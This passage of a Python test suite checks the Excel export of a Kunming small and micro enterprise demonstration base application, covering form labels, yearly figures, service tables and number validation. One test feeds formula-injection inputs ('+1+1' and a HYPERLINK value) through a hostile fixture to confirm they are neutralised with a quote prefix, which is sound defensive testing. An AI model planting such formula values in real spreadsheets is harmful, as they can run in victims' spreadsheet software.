        xml = xml.replace(f"<v>{placeholder}</v>", f"<v>{number}</v>")
    members[sheet] = xml.encode()
    with zipfile.ZipFile(path, "w") as target:
        for name, data in members.items():
            target.writestr(name, data)


def test_xlsx_cells_that_are_not_finite_numbers_are_refused(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["姓名", "岗位", "学历", "在基地工作年限（年）"])
    sheet.append(["张三", "主任", "本科", 111111])
    sheet.append(["李四", "主任", "本科", "1e999"])
    sheet.append(["王五", "主任", "本科", "nan"])
    path = tmp_path / "staff.xlsx"
    workbook.save(path)
    _with_raw_numbers(path, {"111111": "1e999"})
    problems = problems_of(path, read_staff)
    assert [problem.split(": ", 1)[0] for problem in problems] == [
        f"Sheet row {row}, column D (在基地工作年限（年）)" for row in (2, 3, 4)
    ]
    assert all("expected a finite number" in problem for problem in problems)


def test_xlsx_number_cells_openpyxl_cannot_parse_are_a_format_error(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["姓名", "岗位", "学历", "在基地工作年限（年）"])
    sheet.append(["张三", "主任", "本科", 1])
    sheet.append(["李四", "主任", "本科", 222222])
    path = tmp_path / "staff.xlsx"
    workbook.save(path)
    _with_raw_numbers(path, {"222222": "NaN"})
    assert problems_of(path, read_staff) == [
        "Sheet: a cell in row 3 or below cannot be read "
        "(invalid literal for int() with base 10: 'NaN')"
    ]


# -- 申请表: the first form of 附件1 (issue 12, Forms) ---------------------------------------

FORM_LABELS = [
    "昆明市小型微型企业创业创新示范基地申请表",
    "一、基地基本情况",
    "基地名称",
    "所属县区",
    "主导产业",
    "主营业务属于主导产业的入驻企业数（户）",
    "运营单位名称",
    "单位性质",
    "法人代表",
    "注册日期",
    "注册地址",
    "联系人",
    "联系电话（手机）",
    "网址及备案号",
    "邮箱",
    "基地基础设施及场地面积",
    "服务人员",
    "二、入驻小微企业创业创新情况",
    "（一）小微企业创业情况（最少填写两个年度，单位：户、人、万元）",
    "年度",
    "入驻企业户数",
    "入驻小微企业户数",
    "小微企业从业人员",
    "小微企业合计营业收入",
    "（二）小微企业创新情况（最少填写两个年度，单位：件、户、个）",
    "可统计创新成果项目合计",
    "基地内小微企业专利申请",
    "基地内小微企业拥有专利",
    "（其他科技成果自行统计填写，需按认定管理办法规定内容分类）",
    "三、服务能力及业绩",
    "获得专业资质情况",
    "服务内容",
    "服务企业户数",
    "相关服务活动场次",
    "信息服务",
    "创业辅导",
    "创新支持",
    "人员培训",
    "市场营销",
    "投融资服务",
    "管理咨询",
    "专业服务",
    "签约合作服务机构",
    "签订合作协议的单位",
    "其他合作单位",
    "四、获得支持情况",
    "得到政府扶持的情况",
    "各级政府或省级行业协会授予称号、荣誉",
    "县（市）区、开发（度假）区中小企业主管部门审查推荐意见：",
]
"""Every label of 昆明市小型微型企业创业创新示范基地申请表, as the regulation's 附件1 prints it."""

FORM_SERVICES = [
    "信息服务",
    "创业辅导",
    "创新支持",
    "人员培训",
    "市场营销",
    "投融资服务",
    "管理咨询",
    "专业服务",
]
"""The service rows of 开展服务活动情况表 and 申请表 三, in the form's words."""


def form_rows(path: Path) -> list[list[object]]:
    return rows_of(path, "申请表")


def right_of(rows: list[list[object]], label: str, nth: int = 0) -> object:
    """The first value to the right of the ``nth`` cell that holds ``label``."""
    found = [(row, index) for row in rows for index, cell in enumerate(row) if cell == label]
    row, index = found[nth]
    return next(cell for cell in row[index + 1 :] if cell is not None)


def below(rows: list[list[object]], label: str) -> list[list[object]]:
    """The rows after the first row that starts with ``label``, up to the next empty first cell."""
    start = next(i for i, row in enumerate(rows) if row[0] == label)
    body = []
    for row in rows[start + 1 :]:
        if row[0] is None or not isinstance(row[0], int):
            break
        body.append(row)
    return body


def test_the_application_form_is_the_first_sheet(tables: Path) -> None:
    assert openpyxl.load_workbook(tables).sheetnames == [
        "申请表",
        "管理和专职服务人员情况表",
        "入驻企业（项目）名录表",
        "开展服务活动情况表",
        "入驻小微企业服务满意度评价表",
    ]


def test_the_application_form_uses_every_label_of_the_form(tables: Path) -> None:
    values = {cell for row in form_rows(tables) for cell in row}
    missing = [label for label in FORM_LABELS if label not in values]
    assert not missing


def test_the_application_form_part_one_base(tables: Path) -> None:
    rows = form_rows(tables)
    a = APPLICATION
    assert rows[0][0] == "昆明市小型微型企业创业创新示范基地申请表"
    assert right_of(rows, "基地名称") == a.base.name
    assert right_of(rows, "所属县区") == "五华区"
    assert right_of(rows, "主导产业") == "电子信息、软件及信息技术服务"
    assert right_of(rows, "主营业务属于主导产业的入驻企业数（户）") == sum(
        1 for r in a.residents if r.in_leading_industry
    )
    assert right_of(rows, "运营单位名称") == a.operator.name
    assert right_of(rows, "单位性质") == "有限责任公司"
    assert right_of(rows, "法人代表") == "王芳"
    assert right_of(rows, "注册日期") == dt.datetime(2018, 11, 12)
    assert right_of(rows, "注册地址") == a.operator.registered_address
    assert right_of(rows, "联系人") == "李明"
    assert right_of(rows, "联系电话（手机）") == "13800000000"
    assert right_of(rows, "网址及备案号") == a.base.website
    assert right_of(rows, "邮箱") == a.base.email
    assert right_of(rows, "基地基础设施及场地面积") == f"主要基础设施：{a.base.facilities}"
    assert "总场地面积：12500 平方米，其中：公共服务区域面积 2100 平方米" in {
        cell for row in rows for cell in row
    }
    full_time = [m for m in a.staff if m.full_time_service]
    qualified = [
        m for m in full_time if m.education.bachelor_or_above or m.intermediate_title_or_above
    ]
    mentors = sum(1 for m in a.staff if m.startup_mentor)
    share = f"{len(qualified) / len(full_time):.1%}"
    assert right_of(rows, "服务人员") == (
        f"{len(full_time)} 人，其中：本科及以上学历和中级及以上职称 {len(qualified)} 人，"
        f"占总人数 {share}，创业导师 {mentors} 人"
    )


def test_the_application_form_part_two_yearly_tables(tables: Path) -> None:
    rows = form_rows(tables)
    startups = next(i for i, row in enumerate(rows) if row[0] == "年度")
    assert rows[startups][:5] == [
        "年度",
        "入驻企业户数",
        "入驻小微企业户数",
        "小微企业从业人员",
        "小微企业合计营业收入",
    ]
    assert [row[:5] for row in below(rows, "年度")] == [
        [2023, 58, 52, 780, 21000],
        [2024, 60, 60, 905, 25400],
    ]
    innovation = [i for i, row in enumerate(rows) if row[0] == "年度"][1]
    assert rows[innovation][:4] == [
        "年度",
        "可统计创新成果项目合计",
        "基地内小微企业专利申请",
        "基地内小微企业拥有专利",
    ]
    assert [row[:4] for row in rows[innovation + 1 : innovation + 3]] == [
        [2023, 40, 25, 60],
        [2024, 47, 31, 78],
    ]


def test_the_application_form_part_three_services_and_agencies(tables: Path) -> None:
    rows = form_rows(tables)
    header = next(i for i, row in enumerate(rows) if row[0] == "服务内容")
    assert rows[header] == ["服务内容", "服务企业户数", "相关服务活动场次"] * 2
    assert rows[header + 1 : header + 5] == [
        ["信息服务", 86, 9, "创业辅导", 41, 12],
        ["创新支持", 18, 7, "人员培训", None, 15],
        ["市场营销", 25, 3, "投融资服务", 22, 3],
        ["管理咨询", 19, None, "专业服务", 33, None],
    ]
    assert right_of(rows, "获得专业资质情况") == "国家级科技企业孵化器"
    assert "上一年度营业收入 1860 万元，减免小微企业各类服务费用 96.5 万元。" in {
        cell for row in rows for cell in row
    }
    agencies = next(i for i, row in enumerate(rows) if row[0] == "签约合作服务机构")
    signed = rows[agencies + 1][1]
    assert signed == "\n".join(agency.name for agency in APPLICATION.agencies)
    assert right_of(rows, "得到政府扶持的情况") == "2023年省级中小企业发展专项资金"
    assert right_of(rows, "各级政府或省级行业协会授予称号、荣誉") == (
        "云南省小型微型企业创业创新示范基地（2023）"
    )


def test_the_application_form_of_a_recommended_case_holds_the_districts_opinion(
    round_2025: Harness, tmp_path: Path
) -> None:
    path = tmp_path / "case.xlsx"
    export_application_tables(round_2025.workflow.case("a"), path)
    rows = form_rows(path)
    heading = next(i for i, row in enumerate(rows) if row[0] == FORM_LABELS[-1])
    assert rows[heading + 1][0] == "同意推荐"
    export_application_tables(APPLICATION, path)
    rows = form_rows(path)
    assert rows[heading + 1][0] is None


def test_a_sparse_application_leaves_the_form_blank_where_the_data_is(tmp_path: Path) -> None:
    sparse = attrs.evolve(
        ineligible_application(),
        agencies=(),
        services={},
        revenue_last_year_10k_yuan=None,
        fee_reductions_10k_yuan=None,
        staff=(),
    )
    path = tmp_path / "sparse.xlsx"
    export_application_tables(sparse, path)
    rows = form_rows(path)
    values = {cell for row in rows for cell in row}
    assert "上一年度营业收入 　 万元，减免小微企业各类服务费用 　 万元。" in values
    assert right_of(rows, "服务人员").startswith(
        "0 人，其中：本科及以上学历和中级及以上职称 0 人，占总人数 　，"
    )  # type: ignore[union-attr]
    header = next(i for i, row in enumerate(rows) if row[0] == "服务内容")
    assert rows[header + 1] == ["信息服务", None, None, "创业辅导", None, None]


def test_activities_use_the_forms_labels_and_fill_the_free_service_column(tables: Path) -> None:
    rows = rows_of(tables, "开展服务活动情况表")
    body = rows[3:11]
    assert [row[1] for row in body] == FORM_SERVICES
    assert body[0][5] == "上一年度服务共 420 次，其中公益性服务或低收费服务 126 次，占 30.0%"
    sheet = openpyxl.load_workbook(tables)["开展服务活动情况表"]
    assert "F4:F11" in {str(merged) for merged in sheet.merged_cells.ranges}


def test_text_that_starts_like_a_formula_carries_the_quote_prefix(tmp_path: Path) -> None:
    path = tmp_path / "附件1.xlsx"
    export_application_tables(hostile_application(), path)
    staff = openpyxl.load_workbook(path)["管理和专职服务人员情况表"]
    cells = {cell.value: cell for row in staff.iter_rows() for cell in row if cell.value}
    assert cells[HYPERLINK].quotePrefix
    assert cells["+1+1"].quotePrefix
    assert not cells["#N/A"].quotePrefix  # text all the same, but Excel would not run it
    assert not cells["序号"].quotePrefix


def test_control_characters_are_written_as_replacement_characters(tmp_path: Path) -> None:
    bell = attrs.evolve(APPLICATION, base=attrs.evolve(APPLICATION.base, name="园区\x07\x00一"))
    path = tmp_path / "附件1.xlsx"
    export_application_tables(bell, path)
    assert right_of(form_rows(path), "基地名称") == "园区\ufffd\ufffd一"
